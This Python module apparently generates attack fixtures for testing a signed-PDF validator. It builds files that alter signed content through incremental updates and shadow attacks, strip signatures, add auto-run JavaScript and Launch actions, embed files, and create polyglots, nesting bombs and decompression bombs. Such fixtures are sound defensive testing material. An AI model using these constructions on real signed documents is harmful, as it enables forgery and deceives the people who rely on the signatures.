"""Attacks on signed PDFs, each one a file: what somebody would send who wants more believed than was signed."""

import io
import os
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

TAPADO = b"q 1 1 1 rg 60 500 400 200 re f Q"
Escritor = IncrementalPdfFileWriter


def incremento(pdf: bytes, hacer: Callable[[Escritor], None]) -> bytes:
    """What an editor of PDFs does: the bytes that are there, and one revision more."""
    escritor = Escritor(io.BytesIO(pdf))
    hacer(escritor)
    salida = io.BytesIO()
    escritor.write(salida)
    return salida.getvalue()


def tapar(pdf: bytes) -> bytes:
    """Paint over a clause of the first page."""

    def hacer(escritor: Escritor) -> None:
        pagina = escritor.find_page_for_modification(0)[0].get_object()
        trazo = escritor.add_object(generic.StreamObject(stream_data=TAPADO))
        pagina["/Contents"] = generic.ArrayObject([pagina.raw_get("/Contents"), trazo])
        escritor.update_container(pagina)

    return incremento(pdf, hacer)


def reescribir_contenido(pdf: bytes) -> bytes:
    """Shadow, replace: what the page shows is the same object, with other bytes."""

    def hacer(escritor: Escritor) -> None:
        pagina = escritor.find_page_for_modification(0)[0].get_object()
        contenido = pagina["/Contents"]
        contenido = contenido[0] if isinstance(contenido, generic.ArrayObject) else contenido
        contenido._data = TAPADO
        contenido._encoded_data = None
        contenido.pop("/Filter", None)
        escritor.mark_update(contenido.container_ref)

    return incremento(pdf, hacer)


def con_capa(pdf: bytes) -> bytes:
    """Shadow, hide: before anybody signs, a layer lies over the page; its name is all that takes it away."""

    def hacer(escritor: Escritor) -> None:
        pagina = escritor.find_page_for_modification(0)[0].get_object()
        capa = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
            },
            stream_data=TAPADO,
        )
        recursos = pagina["/Resources"]
        objetos = recursos.get("/XObject", generic.DictionaryObject())
        objetos[pdf_name("/Capa")] = escritor.add_object(capa)
        recursos[pdf_name("/XObject")] = objetos
        trazo = escritor.add_object(generic.StreamObject(stream_data=b"/Capa Do"))
        pagina["/Contents"] = generic.ArrayObject([pagina.raw_get("/Contents"), trazo])
        escritor.update_container(pagina)
        escritor.update_container(recursos)

    return incremento(pdf, hacer)


def sin_capa(pdf: bytes) -> bytes:
    """And once it is signed, the layer becomes one that shows nothing."""

    def hacer(escritor: Escritor) -> None:
        capa = escritor.root["/Pages"]["/Kids"][0]["/Resources"]["/XObject"]["/Capa"]
        capa._data = b""
        capa._encoded_data = None
        escritor.mark_update(capa.container_ref)

    return incremento(pdf, hacer)


def con_paginas_sueltas(pdf: bytes) -> bytes:
    """Shadow, hide and replace: a second set of pages that nothing leads to, until a later revision does."""

    def hacer(escritor: Escritor) -> None:
        escritor.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Pages"),
                    pdf_name("/Kids"): generic.ArrayObject(),
                    pdf_name("/Count"): generic.NumberObject(0),
                }
            )
        )

    return incremento(pdf, hacer)


def otras_paginas(pdf: bytes) -> bytes:
    """The catalogue leads to another set of pages."""

    def hacer(escritor: Escritor) -> None:
        pagina = generic.DictionaryObject(escritor.root["/Pages"]["/Kids"][0].get_object())
        pagina[pdf_name("/Contents")] = escritor.add_object(generic.StreamObject(stream_data=TAPADO))
        paginas = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Pages"),
                pdf_name("/Kids"): generic.ArrayObject([escritor.add_object(pagina)]),
                pdf_name("/Count"): generic.NumberObject(1),
            }
        )
        escritor.root[pdf_name("/Pages")] = escritor.add_object(paginas)
        escritor.update_root()

    return incremento(pdf, hacer)


def quitar_firma(pdf: bytes, campo: str = "firma-1") -> bytes:
    """An increment after which a field was never signed."""

    def hacer(escritor: Escritor) -> None:
        for referencia in escritor.root["/AcroForm"]["/Fields"]:
            if referencia.get_object()["/T"] == campo:
                del referencia.get_object()["/V"]
                escritor.mark_update(referencia.reference)

    return incremento(pdf, hacer)


def al_abrir(pdf: bytes, accion: str, **valores: generic.PdfObject) -> bytes:
    """Something that happens when the file is opened."""

    def hacer(escritor: Escritor) -> None:
        hecho = generic.DictionaryObject({pdf_name("/S"): pdf_name(f"/{accion}")})
        hecho.update({pdf_name(f"/{clave}"): valor for clave, valor in valores.items()})
        escritor.root[pdf_name("/OpenAction")] = escritor.add_object(hecho)
        escritor.update_root()

    return incremento(pdf, hacer)


def con_javascript(pdf: bytes) -> bytes:
    return al_abrir(pdf, "JavaScript", JS=generic.pdf_string("app.alert('hola')"))


def que_ejecuta(pdf: bytes) -> bytes:
    return al_abrir(pdf, "Launch", F=generic.pdf_string("C:\\calc.exe"))


def con_adjunto(pdf: bytes) -> bytes:
    """One more file inside, beside the one that was issued with it."""

    def hacer(escritor: Escritor) -> None:
        dentro = escritor.add_object(
            generic.StreamObject({pdf_name("/Type"): pdf_name("/EmbeddedFile")}, stream_data=b"MZ")
        )
        ficha = escritor.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Filespec"),
                    pdf_name("/F"): generic.pdf_string("anexo.txt"),
                    pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): dentro}),
                }
            )
        )
        nombres = escritor.root["/Names"]["/EmbeddedFiles"]
        nombres["/Names"] = generic.ArrayObject([*nombres["/Names"], generic.pdf_string("zz"), ficha])
        escritor.update_container(nombres)

    return incremento(pdf, hacer)


def guardar_de_nuevo(pdf: bytes) -> bytes:
    """As another program saves it: the same pages, all other bytes."""
    salida = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as documento:
        documento.save(salida)
    return salida.getvalue()


def con_zip(pdf: bytes) -> bytes:
    """The same bytes open as a PDF and as an archive."""
    salida = io.BytesIO(pdf)
    salida.seek(0, io.SEEK_END)
    with zipfile.ZipFile(salida, "a") as archivo:
        archivo.writestr("otro.txt", "otra cosa")
    return salida.getvalue()


def con_cola(pdf: bytes) -> bytes:
    """Objects after the end that no cross-reference names: readers that repair a file would find them."""
    inicio = pdf.rpartition(b"startxref")[2].split()[0]
    return pdf + b"9999 0 obj\n<< /Type /Catalog >>\nendobj\nstartxref\n" + inicio + b"\n%%EOF\n"


def anidado() -> bytes:
    """Arrays in arrays, deeper than anybody reads."""
    return _crudo(b"[" * 100_000 + b"]" * 100_000)


def flujo_enorme() -> bytes:
    """Half a gigabyte of nothing, in half a megabyte."""
    obra = zlib.compressobj()
    nada = b"".join([*(obra.compress(bytes(16 << 20)) for _ in range(32)), obra.flush()])
    salida = io.BytesIO()
    with pikepdf.new() as documento:
        pagina = documento.add_blank_page()
        pagina.Contents = documento.make_stream(b"")
        pagina.Contents.write(nada, filter=pikepdf.Name.FlateDecode)
        documento.save(salida, compress_streams=False)
    return salida.getvalue()


def muchas_paginas() -> bytes:
    """Ten thousand of them."""
    salida = io.BytesIO()
    with pikepdf.new() as documento:
        for _ in range(10_000):
            documento.add_blank_page()
        documento.save(salida)
    return salida.getvalue()


def azar(cuantos: int = 20_000) -> bytes:
    return os.urandom(cuantos)


def _crudo(raiz: bytes) -> bytes:
    """A file of three objects whose catalogue holds `raiz`."""
    partes = [
        b"<< /Type /Catalog /Pages 2 0 R /Otro " + raiz + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    salida, donde = bytearray(b"%PDF-1.7\n"), []
    for n, parte in enumerate(partes, 1):
        donde.append(len(salida))
        salida += b"%d 0 obj\n%s\nendobj\n" % (n, parte)
    tabla = b"".join(b"%010d 00000 n \n" % posicion for posicion in donde)
    inicio = len(salida)
    salida += b"xref\n0 4\n0000000000 65535 f \n" + tabla
    salida += b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % inicio
    return bytes(salida)
